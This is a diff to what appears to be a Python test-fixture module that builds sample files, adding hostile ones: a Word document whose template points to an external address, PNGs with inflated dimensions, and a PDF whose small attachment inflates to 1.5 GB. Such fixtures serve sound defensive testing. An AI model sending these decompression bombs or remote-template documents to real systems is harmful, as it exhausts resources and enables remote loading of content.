@@ -1,8 +1,11 @@
 """Small genuine files of every kind, and hostile ones."""
 
 import io
+import json
+import struct
 import zipfile
 import zlib
+from functools import cache
 
 import pikepdf
 from PIL import Image
@@ -98,3 +101,69 @@ def picture(kind: str = "PNG", size: tuple[int, int] = (16, 16)) -> bytes:
     out = io.BytesIO()
     Image.new("RGB", size, "white").save(out, kind)
     return out.getvalue()
+
+
+def linked_docx(kind: str = "attachedTemplate", mode: str = ' TargetMode="External"') -> bytes:
+    """A document whose template, picture or link lies elsewhere."""
+    relation = f'<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}"'
+    text = f'<?xml version="1.0"?><Relationships xmlns="urn:r">{relation} Target="http://203.0.113.1/t.dotm"{mode}/>'
+    return docx(**{"word/_rels/settings.xml.rels": f"{text}</Relationships>"})
+
+
+def declared_png(width: int, height: int) -> bytes:
+    """A PNG that says it is so large, and has nothing in it."""
+    return _png(width, height, zlib.compress(b""))
+
+
+@cache
+def large_png(width: int = 7000, height: int = 7000) -> bytes:
+    """A genuine PNG with transparency: 49 megapixels in some 200 kB."""
+    return _png(width, height, zeros((1 + 4 * width) * height))
+
+
+def _png(width: int, height: int, pixels: bytes) -> bytes:
+    head = struct.pack(">IIBBBBB", width, height, 8, 6, 0, 0, 0)
+    parts = b"".join(_chunk(*each) for each in ((b"IHDR", head), (b"IDAT", pixels), (b"IEND", b"")))
+    return b"\x89PNG\r\n\x1a\n" + parts
+
+
+def _chunk(name: bytes, body: bytes) -> bytes:
+    return struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body))
+
+
+def zeros(size: int) -> bytes:
+    """So many zero bytes, deflated without deflating them all: the same block again and again."""
+    squeeze = zlib.compressobj(9)
+    head = squeeze.compress(b"") or b"\x78\xda"
+    block = zlib.compressobj(9, wbits=-15)
+    megabyte = block.compress(bytes(2**20)) + block.flush(zlib.Z_FULL_FLUSH)
+    rest = zlib.compressobj(9, wbits=-15)
+    end = rest.compress(bytes(size % 2**20)) + rest.flush()
+    return head[:2] + megabyte * (size // 2**20) + end + struct.pack(">HH", size % 65521, 1)
+
+
+@cache
+def letter_bomb(megabytes: int = 1500) -> bytes:
+    """A PDF of 1.5 MB that claims to be a letter: its attachment inflates to 1.5 GB."""
+    document, out = pikepdf.new(), io.BytesIO()
+    document.add_blank_page(page_size=(200, 200))
+    stream = pikepdf.Stream(document, zeros(megabytes * 2**20), Filter=pikepdf.Name.FlateDecode)
+    stream.Type = pikepdf.Name.EmbeddedFile
+    name = pikepdf.String("letter.json")
+    file = pikepdf.Dictionary(
+        Type=pikepdf.Name.Filespec, F=name, UF=name, EF=pikepdf.Dictionary(F=document.make_indirect(stream))
+    )
+    tree = pikepdf.Dictionary(Names=pikepdf.Array([name, document.make_indirect(file)]))
+    document.Root.Names = pikepdf.Dictionary(EmbeddedFiles=document.make_indirect(tree))
+    document.save(out, compress_streams=False, stream_decode_level=pikepdf.StreamDecodeLevel.none)
+    return out.getvalue()
+
+
+def pdf_with_data(content: object) -> bytes:
+    """A PDF that tells this about itself as a letter does."""
+
+    def attach(document):
+        text = json.dumps(content).encode()
+        document.attachments["letter.json"] = pikepdf.AttachedFileSpec(document, text)
+
+    return pdf(attach)
